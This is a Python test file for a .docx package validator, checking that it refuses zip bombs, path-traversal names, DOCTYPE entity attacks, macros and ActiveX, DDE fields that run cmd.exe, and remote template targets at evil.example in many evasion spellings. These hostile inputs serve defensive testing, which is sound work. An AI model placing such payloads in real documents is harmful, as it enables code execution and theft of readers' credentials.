from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.conftest import ROOT
from toolkit.errors import PackageError
from toolkit.rendering.package.guard import read_package
from toolkit.rendering.package.inflating import PackageLimits

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = f"<w:document {W}><w:body><w:p/></w:body></w:document>"


def types(main: str = f"{WORD}.document.main+xml") -> str:
    """Write content types with one main document."""
    return (
        f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def relation(kind: str, target: str, mode: str = "Internal") -> str:
    """Write a .rels part with one relationship."""
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


PARTS: Mapping[str, str | bytes] = {
    "[Content_Types].xml": types(),
    "_rels/.rels": relation("officeDocument", "word/document.xml"),
    "word/document.xml": BODY,
}
LINKS = "word/_rels/document.xml.rels"


def package(changed: Mapping[str, str | bytes | None] | None = None) -> bytes:
    """Zip a small package with parts changed, added or, by None, left out."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in {**PARTS, **(changed or {})}.items():
            if part is not None:
                archive.writestr(name, part)
    return written.getvalue()


def refusal(data: bytes, limits: PackageLimits | None = None) -> str:
    """Read a package that is refused, and give what is said in English."""
    with pytest.raises(PackageError) as caught:
        read_package(data, limits or PackageLimits())
    said = caught.value.said
    assert said.zh.endswith("。")
    assert said.en.endswith(".")
    return said.en


def patched(data: bytes, signature: bytes, offset: int, field: bytes) -> bytes:
    """Overwrite a field of each zip header that has a signature."""
    changed, place = bytearray(data), data.find(signature)
    while place >= 0:
        changed[place + offset : place + offset + len(field)] = field
        place = data.find(signature, place + 4)
    return bytes(changed)


def test_a_package_is_read_in_the_order_of_its_file() -> None:
    """The parts come by name, as bytes, and folders are left out."""
    parts = read_package(package({"word/": ""}))
    assert list(parts) == list(PARTS)
    assert parts["word/document.xml"] == BODY.encode()


@pytest.mark.parametrize("path", sorted((ROOT / "templates").glob("*.docx")), ids=lambda p: p.stem)
def test_shipped_templates_are_accepted(path: Path) -> None:
    """No check finds fault with our own templates."""
    assert "word/document.xml" in read_package(path.read_bytes())


def test_what_is_no_zip_is_refused() -> None:
    """An old .doc, a cut-off file and an empty one are no packages."""
    assert "not a zip" in refusal(b"\xd0\xcf\x11\xe0" + bytes(500))
    assert "not a zip" in refusal(b"")
    assert "no .docx" in refusal(package()[:-40])


def test_a_damaged_part_is_refused() -> None:
    """A part whose checksum does not fit is not used."""
    assert "no .docx" in refusal(patched(package(), b"PK\x01\x02", 16, b"\1\2\3\4"))


def test_encrypted_entries_are_refused() -> None:
    """A part that needs a password is named."""
    assert "is encrypted" in refusal(patched(package(), b"PK\x01\x02", 8, b"\x01\x00"))


def test_uncommon_compression_is_refused() -> None:
    """Only what Word writes is inflated: bzip2 and LZMA are not."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_BZIP2) as archive:
        for name, part in PARTS.items():
            archive.writestr(name, part)
    assert "does not use" in refusal(written.getvalue())


def test_too_many_entries_are_refused() -> None:
    """The entries are counted before they are opened."""
    many = package({f"word/media/{number}.png": b"" for number in range(2_000)})
    assert "entries 2003, at most 2000" in refusal(many)


def test_the_declared_size_is_bounded_before_inflating() -> None:
    """A part that says it has 4 GB is refused at once, whatever it holds."""
    declared = struct.pack("<L", 4_000_000_000)
    assert "bytes when inflated" in refusal(patched(package(), b"PK\x01\x02", 24, declared))


def test_a_part_larger_than_declared_is_refused() -> None:
    """Inflating stops at the declared size, where the checksum does not fit."""
    bomb = package({"word/media/a.png": bytes(50_000_000)})
    assert "no .docx" in refusal(patched(bomb, b"PK\x01\x02", 24, struct.pack("<L", 100)))


def test_a_ratio_bomb_is_refused() -> None:
    """Zeros deflate a thousandfold; a part above 1 MB may inflate by 400."""
    assert "over 400 times" in refusal(package({"word/media/a.png": bytes(2_000_000)}))
    assert read_package(package({"word/media/a.png": bytes(900_000)}))


def test_overlapping_entries_are_refused() -> None:
    """Two entries of the directory cannot share their bytes."""
    data = package()
    first, second = data.find(b"PK\x01\x02"), data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    shared = data[first + 42 : first + 46]
    assert "overlaps" in refusal(data[: second + 42] + shared + data[second + 46 :])


def test_names_twice_are_refused() -> None:
    """The second of two equal names would hide the first."""
    written = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(written, "w") as archive:
        warnings.simplefilter("ignore")
        for name in (*PARTS, "word/document.xml"):
            archive.writestr(name, PARTS[name])
    assert "same name" in refusal(written.getvalue())


def test_names_that_differ_by_case_are_refused() -> None:
    """Word compares names without case, so that one would hide the other."""
    assert "same name as `word/document.xml`" in refusal(package({"word/Document.XML": BODY}))


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd",
        "../evil.xml",
        "word/../../evil.xml",
        "word\\evil.xml",
        "C:/evil.xml",
        "word/%2e%2e/evil.xml",
        "word//evil.xml",
        "word/a\x00b.xml",
        "word/a\nb.xml",
    ],
)
def test_names_that_lead_out_are_refused(name: str) -> None:
    """A name is a plain path inside the package."""
    data = package({"word/" + "q" * 30: b"x"})
    raw = name.encode().ljust(35, b"z")[:35]
    assert "leads out" in refusal(data.replace(b"word/" + b"q" * 30, raw))


@pytest.mark.parametrize("name", ["[Content_Types].xml", "word/document.xml", "_rels/.rels"])
def test_a_package_without_its_skeleton_is_refused(name: str) -> None:
    """Content types, relationships and main document are needed."""
    assert "no .docx that can be read" in refusal(package({name: None}))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("name", ["word/document.xml", "_rels/.rels", "[Content_Types].xml"])
def test_entities_are_refused(name: str, encoding: str) -> None:
    """No part declares a DOCTYPE, in whatever encoding: a billion laughs starts with one."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">]>' + str(PARTS[name])
    assert "DOCTYPE" in refusal(package({name: laughs.encode(encoding)}))


def test_entities_in_a_part_of_another_name_are_refused() -> None:
    """What the content types call XML is XML, whatever its name ends with."""
    declared = types().replace("/word/document.xml", "/word/document.bin")
    changed = {
        "[Content_Types].xml": declared,
        "_rels/.rels": relation("officeDocument", "word/document.bin"),
        "word/document.bin": f"<!DOCTYPE x>{BODY}",
    }
    assert "DOCTYPE" in refusal(package(changed))


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "utf-32", "gb18030"])
def test_other_encodings_are_refused(encoding: str) -> None:
    """UTF-7 can spell a DOCTYPE without its bytes; a package is UTF-8 or UTF-16."""
    text = f'<?xml version="1.0" encoding="{encoding}"?>{BODY}'
    data = text.encode(encoding) if encoding == "utf-32" else text.encode()
    assert "neither" in refusal(package({"word/document.xml": data}))


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/vbaData.xml",
        "word/embeddings/sheet.xlsm",
        "word/VBAPROJECT.BIN",
    ],
)
def test_active_content_is_refused_unless_allowed(name: str) -> None:
    """Macros, OLE objects and ActiveX controls run in the reader's Word."""
    data = package({name: "<x/>"})
    assert "macro" in refusal(data)
    assert name in read_package(data, PackageLimits(allow_active=True))


def test_active_content_types_are_refused() -> None:
    """A .docm that was renamed is still a .docm, in UTF-16 too."""
    renamed = types("application/vnd.ms-word.document.macroEnabled.main+xml")
    for data in (renamed.encode(), renamed.encode("utf-16")):
        assert "macro" in refusal(package({"[Content_Types].xml": data}))
        assert read_package(
            package({"[Content_Types].xml": data}), PackageLimits(allow_active=True)
        )


@pytest.mark.parametrize("kind", ["oleObject", "control", "vbaProject", "aFChunk"])
def test_active_relations_are_refused(kind: str) -> None:
    """An object is found by its relationship, whatever its part is called."""
    assert "macro" in refusal(package({LINKS: relation(kind, "media/a.png")}))


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "subDocument", "frame", "oleObject"])
def test_external_relations_are_refused(kind: str) -> None:
    """Word fetches such a target when it opens the document: remote template injection."""
    data = package({LINKS: relation(kind, "https://evil.example/x.dotm", "External")})
    assert f"external {kind}: https://evil.example/x.dotm" in refusal(data)


@pytest.mark.parametrize(
    "target",
    [
        "file://evil.example/x.dotm",
        "file:////evil.example/x.dotm",
        "\\\\evil.example\\x.dotm",
        "%5C%5Cevil.example%5Cx.dotm",
        "//evil.example/x.dotm",
        "file:///C:/https://evil.example/x.dotm",
        "file://///evil.example/x.dotm",
        "/\\evil.example/x.dotm",
        " https://evil.example/x.dotm",
        "mhtml:https://evil.example/x.dotm",
    ],
)
def test_remote_targets_are_refused_in_every_spelling(target: str) -> None:
    """Windows fetches a share as it does a web page, and hands over the reader's password hash."""
    data = package({LINKS: relation("attachedTemplate", target, "External")})
    assert "external attachedTemplate" in refusal(data)


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\王\\Normal.dotm",
        "C:/Office/Normal.dotm",
        "Normal.dotm",
        "../../AppData/Normal.dotm",
        "file:///Users/wang/Library/Normal.dotm",
        "file://localhost/Users/wang/Normal.dotm",
        "/Applications/Office%202011/Normal.dotm",
    ],
)
def test_templates_on_a_disk_are_accepted(target: str) -> None:
    """Word notes the place of the writer's Normal.dotm in very many files."""
    assert read_package(package({LINKS: relation("attachedTemplate", target, "External")}))


def test_hyperlinks_are_accepted() -> None:
    """A link is followed by the reader only."""
    assert read_package(package({LINKS: relation("hyperlink", "https://a.example", "External")}))


@pytest.mark.parametrize(
    "runs",
    [
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",),
        (" DD", "EAU", "TO cmd"),
        ("INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d",),
        ("D&#68;E cmd",),
    ],
)
def test_fields_that_fetch_or_run_are_refused(runs: tuple[str, ...]) -> None:
    """Word runs such a field when it updates the document, and lets it be split into runs."""
    field = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    assert "fetches or runs" in refusal(
        package({"word/document.xml": BODY.replace("<w:p/>", f"<w:p>{field}</w:p>")})
    )


def test_ordinary_fields_are_accepted() -> None:
    """Page numbers, tables of contents and links inside are what letters have."""
    fields = "".join(
        f"<w:r><w:instrText>{text}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"
        for text in (" PAGE ", ' TOC \\o "1-3" ', ' HYPERLINK "https://a.example" ', "LINK")
    )
    assert read_package(
        package({"word/document.xml": BODY.replace("<w:p/>", f"<w:p>{fields}</w:p>")})
    )


def test_relations_that_are_not_xml_are_refused() -> None:
    """A broken .rels part is named."""
    assert f"`{LINKS}` is not well-formed" in refusal(package({LINKS: "<Relationships>"}))
